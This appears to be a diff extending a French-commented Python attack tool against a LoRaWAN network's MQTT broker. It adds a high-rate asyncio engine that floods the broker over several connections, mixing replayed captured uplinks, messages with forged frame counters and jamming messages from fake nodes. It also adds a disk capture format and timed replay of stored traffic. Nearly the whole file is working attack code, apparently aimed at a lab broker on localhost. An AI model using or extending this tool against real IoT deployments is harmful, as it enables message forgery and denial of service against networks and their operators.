@@ -1,6 +1,14 @@
 import paho.mqtt.client as mqtt
 import time
 import json
+import asyncio
+import os
+import random
+import struct
+import mmap
+import threading
+import zlib
+from collections import deque
 
 # Configuration
 MQTT_BROKER = "localhost"
@@ -9,13 +17,373 @@ MQTT_TOPIC = "lorawan/uplink"
 MQTT_AUTH_USER = "lorauser"
 MQTT_AUTH_PASS = "lorapass"
 
+# Moteur d'attaque asyncio à haut débit: plusieurs connexions MQTT pilotées par
+# une même boucle d'événements (sockets paho enregistrés dans la boucle), cadence
+# réglée par un seau à jetons, mélange de scénarios (rejeu, compteur forgé,
+# brouillage) selon des proportions données.
+ATTACK_CONNECTIONS = 4      # Connexions de publication simultanées
+ATTACK_QOS = 0              # QoS MQTT des messages d'attaque (0, 1 ou 2)
+ATTACK_BURST = 0.05         # Jetons accumulables, en secondes de débit cible
+ATTACK_MAX_INFLIGHT = 1000  # Messages QoS 1/2 en attente d'accusé par connexion
+
+class TokenBucket:
+    """Seau à jetons: rate jetons/s, au plus burst jetons d'avance"""
+
+    def __init__(self, rate, burst=None):
+        self.rate = rate
+        self.burst = burst if burst is not None else max(1.0, rate * ATTACK_BURST)
+        self.tokens = 0.0
+        self.updated = time.monotonic()
+
+    async def take(self, wanted):
+        """Attend qu'au moins un jeton soit disponible et en retire jusqu'à wanted"""
+        while True:
+            now = time.monotonic()
+            self.tokens = min(self.burst, self.tokens + (now - self.updated) * self.rate)
+            self.updated = now
+            if self.tokens >= 1:
+                granted = min(int(self.tokens), wanted)
+                self.tokens -= granted
+                return granted
+            # Un seul réveil pour plusieurs messages: asyncio.sleep n'est pas plus précis que la milliseconde
+            await asyncio.sleep(max((min(wanted, self.burst) - self.tokens) / self.rate, 0.0005))
+
+class AsyncMQTTPublisher:
+    """Client paho dont le socket est servi par la boucle asyncio (pas de thread réseau)"""
+
+    def __init__(self, loop, client_id, qos=ATTACK_QOS):
+        self.loop = loop
+        self.qos = qos
+        self.connected = loop.create_future()
+        self.client = mqtt.Client(client_id=client_id, callback_api_version=mqtt.CallbackAPIVersion.VERSION2)
+        self.client.username_pw_set(MQTT_AUTH_USER, MQTT_AUTH_PASS)
+        self.client.max_inflight_messages_set(ATTACK_MAX_INFLIGHT)
+        self.client.on_connect = self._on_connect
+        self.client.on_publish = self._on_publish
+        self.client.on_socket_open = self._on_socket_open
+        self.client.on_socket_close = self._on_socket_close
+        self.client.on_socket_register_write = self._on_register_write
+        self.client.on_socket_unregister_write = self._on_unregister_write
+        self.misc = None
+        self.unacknowledged = 0  # Messages QoS 1/2 sans accusé du broker
+
+    def _on_connect(self, client, userdata, flags, rc, properties=None):
+        if not self.connected.done():
+            self.connected.set_result(rc)
+
+    def _on_publish(self, client, userdata, mid, reason_code=None, properties=None):
+        if self.qos:
+            self.unacknowledged -= 1
+
+    def _on_socket_open(self, client, userdata, sock):
+        self.loop.add_reader(sock, client.loop_read)
+        self.misc = self.loop.create_task(self._misc_loop())
+
+    def _on_socket_close(self, client, userdata, sock):
+        self.loop.remove_reader(sock)
+        if self.misc is not None:
+            self.misc.cancel()
+
+    def _on_register_write(self, client, userdata, sock):
+        self.loop.add_writer(sock, client.loop_write)
+
+    def _on_unregister_write(self, client, userdata, sock):
+        self.loop.remove_writer(sock)
+
+    async def _misc_loop(self):
+        while self.client.loop_misc() == mqtt.MQTT_ERR_SUCCESS:
+            await asyncio.sleep(1)
+
+    async def connect(self):
+        self.client.connect(MQTT_BROKER, MQTT_PORT, 60)
+        rc = await self.connected
+        if rc != 0:
+            raise ConnectionError(f"Connexion refusée par le broker: {rc}")
+
+    def publish(self, payload):
+        rc = self.client.publish(MQTT_TOPIC, payload, qos=self.qos).rc
+        if self.qos and rc == mqtt.MQTT_ERR_SUCCESS:
+            self.unacknowledged += 1
+        return rc
+
+    async def drain(self):
+        """Attend l'envoi effectif des messages en file (et leurs accusés en QoS > 0)"""
+        while self.client.want_write() or self.unacknowledged > 0:
+            await asyncio.sleep(0.01)
+
+    def disconnect(self):
+        self.client.disconnect()
+
+# Générateurs de messages des scénarios: retournent le message à publier
+def forge_counter(message_dict, shift=100):
+    forged = dict(message_dict)
+    forged['counter'] = forged.get('counter', 0) + shift  # Incrémentation artificielle du compteur
+    return json.dumps(forged)
+
+def jamming_message(index):
+    return json.dumps({
+        "dev_id": f"fake_node_{index % 100}",
+        "counter": index,
+        "payload_raw": "SGVsbG8gV29ybGQ=",  # "Hello World" en base64
+        "metadata": {"time": time.time(), "frequency": 868.1, "modulation": "LORA", "data_rate": "SF7BW125"}
+    })
+
+class AttackEngine:
+    SCENARIOS = ("replay", "forge", "jam")
+
+    def __init__(self, captured_messages, rate, duration, mix, connections=ATTACK_CONNECTIONS, qos=ATTACK_QOS):
+        unknown = set(mix) - set(self.SCENARIOS)
+        if unknown:
+            raise ValueError(f"Scénario inconnu: {', '.join(sorted(unknown))}")
+        if not captured_messages and (mix.get('replay') or mix.get('forge')):
+            raise ValueError("Le rejeu et la falsification de compteur nécessitent des messages capturés")
+        total = sum(mix.values())
+        self.scenarios = [name for name in self.SCENARIOS if mix.get(name)]
+        self.weights = [mix[name] / total for name in self.scenarios]
+        self.captured = list(captured_messages)
+        self.captured_dicts = [json.loads(message) for message in self.captured]
+        self.rate = rate
+        self.duration = duration
+        self.connections = connections
+        self.qos = qos
+        self.sent = {name: 0 for name in self.scenarios}
+        self.errors = 0
+
+    def _batch(self, count):
+        """Messages d'un lot, scénarios tirés selon les proportions demandées"""
+        messages = []
+        for scenario in random.choices(self.scenarios, self.weights, k=count):
+            if scenario == 'replay':
+                messages.append(random.choice(self.captured))
+            elif scenario == 'forge':
+                messages.append(forge_counter(random.choice(self.captured_dicts), random.randint(11, 1000)))
+            else:
+                messages.append(jamming_message(sum(self.sent.values()) + len(messages)))
+            self.sent[scenario] += 1
+        return messages
+
+    async def _publisher(self, publisher, bucket, deadline, batch_size):
+        while time.monotonic() < deadline:
+            granted = await bucket.take(batch_size)
+            for message in self._batch(granted):
+                if publisher.publish(message) != mqtt.MQTT_ERR_SUCCESS:
+                    self.errors += 1
+            # Laisse la boucle servir les sockets entre deux lots
+            await asyncio.sleep(0)
+
+    async def run(self):
+        loop = asyncio.get_running_loop()
+        publishers = [AsyncMQTTPublisher(loop, f"attacker_{os.getpid()}_{i}", self.qos)
+                      for i in range(self.connections)]
+        await asyncio.gather(*(publisher.connect() for publisher in publishers))
+        print(f"{len(publishers)} connexions établies, QoS {self.qos}, débit cible {self.rate:.0f} messages/s")
+
+        bucket = TokenBucket(self.rate)
+        batch_size = max(1, int(bucket.burst))
+        start = time.monotonic()
+        await asyncio.gather(*(self._publisher(publisher, bucket, start + self.duration, batch_size)
+                               for publisher in publishers))
+        elapsed = time.monotonic() - start
+        await asyncio.gather(*(publisher.drain() for publisher in publishers))
+        for publisher in publishers:
+            publisher.disconnect()
+        return self.report(elapsed)
+
+    def report(self, elapsed):
+        total = sum(self.sent.values())
+        achieved = total / elapsed if elapsed else 0.0
+        print(f"Attaque terminée: {total} messages en {elapsed:.2f} s")
+        print(f"  Débit obtenu: {achieved:.0f} messages/s pour {self.rate:.0f} visés ({achieved / self.rate:.1%})")
+        for name in self.scenarios:
+            print(f"  {name}: {self.sent[name]} messages")
+        if self.errors:
+            print(f"  Erreurs de publication: {self.errors}")
+        return {'sent': dict(self.sent), 'elapsed': elapsed, 'target_rate': self.rate,
+                'achieved_rate': achieved, 'errors': self.errors}
+
+# Capture sur disque: fichier de données en ajout seul et index compagnon (.idx).
+# Chaque enregistrement porte un en-tête compact (horodatage de réception,
+# compteur, tailles) suivi du dev_id et du message MQTT brut. L'index donne pour
+# chaque message son horodatage, sa position, son compteur et l'empreinte de son
+# dev_id; la relecture passe par mmap sans charger la capture en mémoire.
+CAPTURE_PATH = "capture.lcap"
+CAPTURE_MEMORY_MESSAGES = 1000  # Messages récents gardés en mémoire pour le rejeu interactif
+CAPTURE_FLUSH_INTERVAL = 1.0    # Période (s) d'écriture sur disque pendant la capture
+CAPTURE_MAGIC = b"LCAP\x01"
+CAPTURE_RECORD = struct.Struct("<dqIH")  # horodatage, compteur (-1 si absent), taille du message, taille du dev_id
+CAPTURE_INDEX = struct.Struct("<dQqI")   # horodatage, position de l'enregistrement, compteur, crc32 du dev_id
+
+class CaptureWriter:
+    def __init__(self, path=CAPTURE_PATH):
+        self.path = path
+        self.count = self._repair()
+        self.lock = threading.Lock()  # Ajouts (thread réseau MQTT) et écritures périodiques
+        self.data = open(path, "ab", buffering=1 << 20)
+        self.index = open(path + ".idx", "ab", buffering=1 << 16)
+        # Entrées d'index des enregistrements pas encore écrits: retenues jusqu'au flush des données
+        self.pending = bytearray()
+        self.size = self.data.tell()
+        if self.size == 0:
+            self.data.write(CAPTURE_MAGIC)
+            self.size = len(CAPTURE_MAGIC)
+
+    def _repair(self):
+        """Reprend une capture interrompue: index complété, enregistrement tronqué supprimé"""
+        index_path = self.path + ".idx"
+        if not os.path.exists(self.path):
+            if os.path.exists(index_path):
+                os.remove(index_path)
+            return 0
+        with open(self.path, "rb") as f:
+            if f.read(len(CAPTURE_MAGIC)) != CAPTURE_MAGIC:
+                raise ValueError(f"{self.path} n'est pas une capture")
+        entries = os.path.getsize(index_path) // CAPTURE_INDEX.size if os.path.exists(index_path) else 0
+        data_size = os.path.getsize(self.path)
+        with open(self.path, "r+b") as data, open(index_path, "ab+") as index:
+            # Dernière entrée d'index dont l'enregistrement est complet sur disque
+            offset = len(CAPTURE_MAGIC)
+            while entries:
+                index.seek((entries - 1) * CAPTURE_INDEX.size)
+                _, last, _, _ = CAPTURE_INDEX.unpack(index.read(CAPTURE_INDEX.size))
+                if last + CAPTURE_RECORD.size <= data_size:
+                    data.seek(last)
+                    _, _, length, dev_length = CAPTURE_RECORD.unpack(data.read(CAPTURE_RECORD.size))
+                    if last + CAPTURE_RECORD.size + dev_length + length <= data_size:
+                        offset = last + CAPTURE_RECORD.size + dev_length + length
+                        break
+                entries -= 1
+            index.truncate(entries * CAPTURE_INDEX.size)
+            # Enregistrements écrits mais absents de l'index
+            while offset + CAPTURE_RECORD.size <= data_size:
+                data.seek(offset)
+                timestamp, counter, length, dev_length = CAPTURE_RECORD.unpack(data.read(CAPTURE_RECORD.size))
+                end = offset + CAPTURE_RECORD.size + dev_length + length
+                if end > data_size:
+                    break
+                dev_id = data.read(dev_length)
+                index.write(CAPTURE_INDEX.pack(timestamp, offset, counter, zlib.crc32(dev_id)))
+                entries += 1
+                offset = end
+            data.truncate(offset)
+        return entries
+
+    def append(self, timestamp, dev_id, counter, payload):
+        dev_id = dev_id.encode()
+        if not isinstance(counter, int) or not -1 <= counter < 1 << 63:
+            counter = -1
+        with self.lock:
+            offset = self.size
+            self.data.write(CAPTURE_RECORD.pack(timestamp, counter, len(payload), len(dev_id)))
+            self.data.write(dev_id)
+            self.data.write(payload)
+            self.pending += CAPTURE_INDEX.pack(timestamp, offset, counter, zlib.crc32(dev_id))
+            self.size += CAPTURE_RECORD.size + len(dev_id) + len(payload)
+            self.count += 1
+
+    def flush(self):
+        # Données avant l'index: les deux fichiers ont chacun leur tampon, les entrées ne
+        # sont donc confiées à l'index qu'une fois leurs enregistrements écrits
+        with self.lock:
+            self.data.flush()
+            self.index.write(self.pending)
+            self.pending.clear()
+            self.index.flush()
+
+    def close(self):
+        self.flush()
+        self.data.close()
+        self.index.close()
+
+class CaptureReader:
+    def __init__(self, path=CAPTURE_PATH):
+        self.path = path
+        self._data_file = open(path, "rb")
+        self._index_file = open(path + ".idx", "rb")
+        if self._data_file.read(len(CAPTURE_MAGIC)) != CAPTURE_MAGIC:
+            raise ValueError(f"{path} n'est pas une capture")
+        data_size = os.fstat(self._data_file.fileno()).st_size
+        index_size = os.fstat(self._index_file.fileno()).st_size
+        self.data = mmap.mmap(self._data_file.fileno(), 0, access=mmap.ACCESS_READ)
+        self.index = mmap.mmap(self._index_file.fileno(), 0, access=mmap.ACCESS_READ) if index_size else b""
+        self.count = index_size // CAPTURE_INDEX.size
+        # Capture en cours d'écriture ou interrompue: seuls les enregistrements complets sont lus
+        while self.count and self._end(self.count - 1, data_size) > data_size:
+            self.count -= 1
+
+    def __len__(self):
+        return self.count
+
+    def _end(self, i, data_size):
+        """Fin de l'enregistrement i (au-delà de data_size si son en-tête n'est pas sur disque)"""
+        _, offset, _, _ = CAPTURE_INDEX.unpack_from(self.index, i * CAPTURE_INDEX.size)
+        if offset + CAPTURE_RECORD.size > data_size:
+            return offset + CAPTURE_RECORD.size
+        _, _, length, dev_length = CAPTURE_RECORD.unpack_from(self.data, offset)
+        return offset + CAPTURE_RECORD.size + dev_length + length
+
+    def timestamp(self, i):
+        return CAPTURE_INDEX.unpack_from(self.index, i * CAPTURE_INDEX.size)[0]
+
+    def find(self, timestamp):
+        """Premier message reçu à timestamp ou après (recherche dichotomique dans l'index)"""
+        low, high = 0, self.count
+        while low < high:
+            middle = (low + high) // 2
+            if self.timestamp(middle) < timestamp:
+                low = middle + 1
+            else:
+                high = middle
+        return low
+
+    def record(self, i):
+        """(horodatage, dev_id, compteur, message brut) du i-ème message
+
+        Seul le message est copié depuis la projection mémoire (paho publie des bytes).
+        """
+        _, offset, _, _ = CAPTURE_INDEX.unpack_from(self.index, i * CAPTURE_INDEX.size)
+        timestamp, counter, length, dev_length = CAPTURE_RECORD.unpack_from(self.data, offset)
+        start = offset + CAPTURE_RECORD.size
+        dev_id = self.data[start:start + dev_length].decode()
+        payload = self.data[start + dev_length:start + dev_length + length]
+        return timestamp, dev_id, None if counter < 0 else counter, payload
+
+    def select(self, dev_ids=None, start=None, end=None):
+        """Indices des messages d'une plage horaire [start, end) et des nœuds demandés"""
+        first = self.find(start) if start is not None else 0
+        last = self.find(end) if end is not None else self.count
+        if not dev_ids:
+            return range(first, last)
+        wanted = {zlib.crc32(dev_id.encode()): dev_id.encode() for dev_id in dev_ids}
+        selected = []
+        index, data = self.index, self.data
+        for i in range(first, last):
+            _, offset, _, dev_hash = CAPTURE_INDEX.unpack_from(index, i * CAPTURE_INDEX.size)
+            dev_id = wanted.get(dev_hash)
+            if dev_id is None:
+                continue
+            # Empreinte commune: vérification du dev_id dans l'enregistrement
+            dev_length = CAPTURE_RECORD.unpack_from(data, offset)[3]
+            start_dev = offset + CAPTURE_RECORD.size
+            if dev_length == len(dev_id) and data[start_dev:start_dev + dev_length] == dev_id:
+                selected.append(i)
+        return selected
+
+    def close(self):
+        self.data.close()
+        if isinstance(self.index, mmap.mmap):
+            self.index.close()
+        self._data_file.close()
+        self._index_file.close()
+
 class LoRaWANReplayAttack:
     def __init__(self):
         self.client = mqtt.Client(client_id="attacker", callback_api_version=mqtt.CallbackAPIVersion.VERSION2)
         self.client.username_pw_set(MQTT_AUTH_USER, MQTT_AUTH_PASS)
         self.client.on_connect = self.on_connect
         self.client.on_message = self.on_message
-        self.captured_messages = []
+        self.captured_messages = deque(maxlen=CAPTURE_MEMORY_MESSAGES)  # Derniers messages, la capture complète est sur disque
+        self.capture_path = CAPTURE_PATH
+        self.capture_writer = None
         
     def on_connect(self, client, userdata, flags, rc, properties=None):
         print(f"Connecté au broker MQTT avec code {rc}")
@@ -24,31 +392,91 @@ class LoRaWANReplayAttack:
         
     def on_message(self, client, userdata, msg):
         print("Message intercepté!")
+        received_at = time.time()
         message = json.loads(msg.payload.decode())
         self.captured_messages.append(msg.payload)
+        if self.capture_writer is not None:
+            self.capture_writer.append(received_at, str(message.get('dev_id', '')), message.get('counter'), msg.payload)
         print(f"Message capturé du nœud {message.get('dev_id', 'inconnu')}, frame #{message.get('counter', '?')}")
         
-    def start_capture(self, duration=60):
-        """Capture des messages pendant une durée spécifiée (en secondes)"""
+    def start_capture(self, duration=60, path=None):
+        """Capture des messages pendant une durée spécifiée (en secondes), enregistrés dans path"""
         try:
+            self.capture_path = path or self.capture_path
+            self.capture_writer = CaptureWriter(self.capture_path)
+            already = self.capture_writer.count
             self.client.connect(MQTT_BROKER, MQTT_PORT, 60)
             self.client.loop_start()
             
-            print(f"Démarrage de la capture pendant {duration} secondes...")
+            print(f"Démarrage de la capture pendant {duration} secondes dans {self.capture_path}...")
             start_time = time.time()
             
             while time.time() - start_time < duration:
                 remaining = int(duration - (time.time() - start_time))
                 if remaining % 10 == 0 and remaining != duration:
                     print(f"Capture en cours... {remaining} secondes restantes")
-                time.sleep(1)
+                time.sleep(CAPTURE_FLUSH_INTERVAL)
+                self.capture_writer.flush()
                 
             self.client.loop_stop()
-            print(f"Capture terminée. {len(self.captured_messages)} messages capturés.")
+            print(f"Capture terminée. {self.capture_writer.count - already} messages capturés "
+                  f"({self.capture_writer.count} dans {self.capture_path}).")
             
         except Exception as e:
             print(f"Erreur lors de la capture: {str(e)}")
             self.client.loop_stop()
+        finally:
+            if self.capture_writer is not None:
+                self.capture_writer.close()
+                self.capture_writer = None
+    
+    def replay_capture(self, path=None, speed=1.0, dev_ids=None, start=None, end=None):
+        """Rejoue une capture enregistrée en respectant l'espacement d'origine des messages
+
+        speed multiplie la vitesse de rejeu (0: au plus vite); dev_ids et [start, end)
+        (horodatages epoch) restreignent les messages rejoués.
+        """
+        path = path or self.capture_path
+        try:
+            reader = CaptureReader(path)
+        except Exception as e:
+            print(f"Erreur lors de l'ouverture de la capture: {str(e)}")
+            return 0
+        sent = 0
+        try:
+            selected = reader.select(dev_ids, start, end)
+            if not len(selected):
+                print("Aucun message ne correspond aux critères.")
+                return 0
+            replay_client = mqtt.Client(client_id="capture_replayer", callback_api_version=mqtt.CallbackAPIVersion.VERSION2)
+            replay_client.username_pw_set(MQTT_AUTH_USER, MQTT_AUTH_PASS)
+            replay_client.connect(MQTT_BROKER, MQTT_PORT, 60)
+            replay_client.loop_start()
+            
+            print(f"Rejeu de {len(selected)} messages de {path} (vitesse x{speed:g})...")
+            first = reader.timestamp(selected[0])
+            wall_start = time.monotonic()
+            for i in selected:
+                timestamp, dev_id, counter, payload = reader.record(i)
+                if speed:
+                    delay = (timestamp - first) / speed - (time.monotonic() - wall_start)
+                    if delay > 0:
+                        time.sleep(delay)
+                replay_client.publish(MQTT_TOPIC, payload)
+                sent += 1
+                if sent % 10000 == 0:
+                    print(f"  {sent}/{len(selected)} messages rejoués...")
+            
+            replay_client.loop_stop()
+            replay_client.disconnect()
+            elapsed = time.monotonic() - wall_start
+            print(f"Rejeu terminé: {sent} messages en {elapsed:.1f} s "
+                  f"(durée d'origine {reader.timestamp(selected[-1]) - first:.1f} s).")
+        except Exception as e:
+            print(f"Erreur lors du rejeu de la capture: {str(e)}")
+        finally:
+            reader.close()
+        return sent
     
     def replay_attack(self, delay_between_replays=5):
         """Rejoue les messages capturés"""
@@ -97,6 +525,19 @@ class LoRaWANReplayAttack:
         except Exception as e:
             print(f"Erreur lors de l'attaque: {str(e)}")
             
+    def mixed_attack(self, rate=10000, duration=30, mix=None, connections=ATTACK_CONNECTIONS, qos=ATTACK_QOS):
+        """Attaque à haut débit mêlant rejeu, falsification de compteur et brouillage
+
+        mix donne la proportion de chaque scénario, par ex. {'replay': 1, 'forge': 1, 'jam': 2}.
+        """
+        if mix is None:
+            mix = {'replay': 1, 'forge': 1, 'jam': 1} if self.captured_messages else {'jam': 1}
+        try:
+            engine = AttackEngine(self.captured_messages, rate, duration, mix, connections, qos)
+            return asyncio.run(engine.run())
+        except Exception as e:
+            print(f"Erreur lors de l'attaque mixte: {str(e)}")
+
     def simulate_jamming(self, duration=30, rate=10):
         """Simule une attaque par brouillage (jamming) en inondant le canal de messages invalides"""
         try:
@@ -146,14 +587,17 @@ def main():
     print("1. Capture de paquets")
     print("2. Attaque par rejeu")
     print("3. Simulation de brouillage")
-    print("4. Quitter")
+    print("4. Attaque mixte à haut débit (rejeu, compteur forgé, brouillage)")
+    print("5. Rejeu d'une capture enregistrée (rythme d'origine)")
+    print("6. Quitter")
     
     while True:
-        choice = input("\nVotre choix (1-4): ")
+        choice = input("\nVotre choix (1-6): ")
         
         if choice == "1":
             duration = int(input("Durée de capture (secondes): ") or "60")
-            attacker.start_capture(duration)
+            path = input(f"Fichier de capture ({attacker.capture_path}): ") or attacker.capture_path
+            attacker.start_capture(duration, path)
         elif choice == "2":
             if not attacker.captured_messages:
                 print("Vous devez d'abord capturer des messages (option 1)")
@@ -165,6 +609,34 @@ def main():
             rate = int(input("Taux d'envoi (messages/seconde): ") or "10")
             attacker.simulate_jamming(duration, rate)
         elif choice == "4":
+            rate = int(input("Débit visé (messages/seconde): ") or "10000")
+            duration = int(input("Durée de l'attaque (secondes): ") or "30")
+            connections = int(input("Connexions simultanées: ") or str(ATTACK_CONNECTIONS))
+            qos = int(input("QoS MQTT (0, 1 ou 2): ") or str(ATTACK_QOS))
+            mix = {}
+            for scenario in AttackEngine.SCENARIOS:
+                default = "0" if scenario != "jam" and not attacker.captured_messages else "1"
+                mix[scenario] = float(input(f"Proportion de '{scenario}': ") or default)
+            attacker.mixed_attack(rate, duration, mix, connections, qos)
+        elif choice == "5":
+            path = input(f"Fichier de capture ({attacker.capture_path}): ") or attacker.capture_path
+            speed = float(input("Vitesse de rejeu (1 = rythme d'origine, 0 = au plus vite): ") or "1")
+            dev_ids = [d.strip() for d in input("Nœuds à rejouer (séparés par des virgules, tous par défaut): ").split(",") if d.strip()]
+            start = input("Début (secondes depuis le début de la capture, optionnel): ")
+            end = input("Fin (secondes depuis le début de la capture, optionnel): ")
+            origin = None
+            if start or end:
+                try:
+                    reader = CaptureReader(path)
+                    origin = reader.timestamp(0) if len(reader) else 0.0
+                    reader.close()
+                except Exception as e:
+                    print(f"Erreur lors de l'ouverture de la capture: {str(e)}")
+                    continue
+            attacker.replay_capture(path, speed, dev_ids or None,
+                                    origin + float(start) if start else None,
+                                    origin + float(end) if end else None)
+        elif choice == "6":
             print("Au revoir!")
             break
         else: